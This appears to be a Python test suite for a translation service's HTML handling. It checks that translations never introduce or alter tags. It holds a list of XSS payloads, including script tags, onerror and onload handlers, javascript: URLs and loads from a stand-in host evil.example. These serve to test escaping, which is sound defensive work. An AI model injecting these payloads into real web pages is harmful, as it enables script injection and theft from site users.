"""HTML: text is translated, everything else stays, and no translation becomes a tag."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from transduce.serve.markup import markup

BITS = [
    *(
        "<p>",
        "</p>",
        "<b class='x>y'>",
        "<br/>",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "<!-->",
    ),
    *("<![CDATA[", "]]>", "<!doctype html>", "<?xml?>", "</3>", "<", ">", "&", "&amp;", "&nbsp;", "&#65;", "&#x1F600;"),
    *("&notit;", "&quotfoo", "&#0;", "&#1;", '<a href="', "'", '"', "=", "/", "<pre>", "</pre>", "<p translate=no>"),
    *("<plaintext>", "<svg/onload=alert(1)>", "Hello", "World. Good", "dog!", " ", "\n", "。", "é", "\x00", "\u2028"),
]
HTML = st.lists(st.sampled_from(BITS), max_size=25).map("".join) | st.text(max_size=60)

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>click me</a>",
    "<b onmouseover=alert('x')>over</b>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<script><!--<script></script> alert(1) --></script>",
    "<!--><script>alert(1)</script>-->",
    "<a\u00a0href='javascript:alert(1)'>x",
    "<img src=`x`onerror=alert(1)>",
    "<input autofocus onfocus=alert(1) value='",
    "<<script>alert(1)//<</script>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='http://evil.example/'>",
    "\ud800<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<plaintext>hello <script>alert(1)</script>",
]


class Tags(HTMLParser):
    """All that is not text, as Python's own parser sees it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[object] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", data))


@given(HTML)
def test_sentences_that_stay_make_up_the_html(text: str) -> None:
    document = markup(text)
    assert document.joined(document.sentences) == text


@given(HTML)
def test_what_is_not_translated_stays(text: str) -> None:
    document = markup(text)
    translated = document.joined(["\x07。"] * len(document.sentences))
    assert translated == "".join("\x07。" if piece.sentence else piece.text for piece in document.pieces)


@given(HTML)
def test_a_translation_brings_no_tag_along(text: str) -> None:
    document = markup(text)
    evil = document.joined(["<script>alert(1)</script>&amp;"] * len(document.sentences))
    good = document.joined(["harmless"] * len(document.sentences))
    assert evil.replace("&lt;script&gt;alert(1)&lt;/script&gt;&amp;amp;", "harmless") == good


@pytest.mark.parametrize("text", XSS)
def test_no_tag_is_gained_lost_or_changed(text: str) -> None:
    document = markup(text)
    translated = document.joined(["<img src=y onerror=alert(2)>"] * len(document.sentences))
    assert Tags(translated).found == Tags(text).found


@pytest.mark.parametrize(
    ("text", "sentences"),
    [
        ("<p>One. Two!</p>", ["One.", "Two!"]),
        ("Hello <b>world</b>!", ["Hello", "world"]),
        ("<a title=\"not > this\" href='nor this'>this</a>", ["this"]),
        ("<!-- not this -->this<!---->and <!--> that", ["this", "and", "that"]),
        ("<script>if (a < b) 'no'</script><STYLE>p {}</STYLE >yes", ["yes"]),
        ("<script><!--<script></script> no --></script>yes", ["yes"]),
        ("Fish &amp; chips. It&nbsp;is", ["Fish & chips.", "It is"]),
        ("&lt;b&gt; stands for bold", ["<b> stands for bold"]),
        ("a < b", ["a < b"]),
        ("one\n   sentence", ["one sentence"]),
        ("<pre>two\nlines</pre>one\nline", ["two", "lines", "one line"]),
        ('<p translate="no">no <p>no</p> no</p> yes', ["yes"]),
        ("<div class='x notranslate'><script>'</div>'</script>no</div>yes<br translate=no>yes", ["yes", "yes"]),
        ("<![CDATA[no > no]]>yes<!DOCTYPE no>yes<?no?>yes</3 no>yes", ["yes"] * 4),
        ("yes<a href='no", ["yes"]),
        ("yes<!-- no", ["yes"]),
        ("<title>yes</title><textarea>yes</textarea>", ["yes", "yes"]),
    ],
)
def test_what_is_text(text: str, sentences: list[str]) -> None:
    assert markup(text).sentences == sentences


def test_entities_are_read_and_written() -> None:
    assert (
        markup("<p>Fish &amp; &quot;chips&quot;</p>").joined(["Fisch & <Chips>"]) == "<p>Fisch &amp; &lt;Chips&gt;</p>"
    )
    assert markup("&nbsp;Hi&nbsp;").joined(["Ho"]) == "&nbsp;Ho&nbsp;"


def test_broken_html_is_read_in_linear_time() -> None:
    n = 40_000
    for text in (
        "<" * n,
        "<!--" * n,
        "<a " * n,
        '<a b="' * n,
        "<a b=' " * n,
        "<script>" * n,
        "<!--<script>" * n,
        "&" * n,
    ):
        assert markup(text).joined(markup(text).sentences) == text
    for text in ("<p translate=no>" * n, "<a" + " " * n, "<a" + " class=" * n, "</" * n, "<![CDATA[" * n, "<pre>" * n):
        assert markup(text).joined(markup(text).sentences) == text
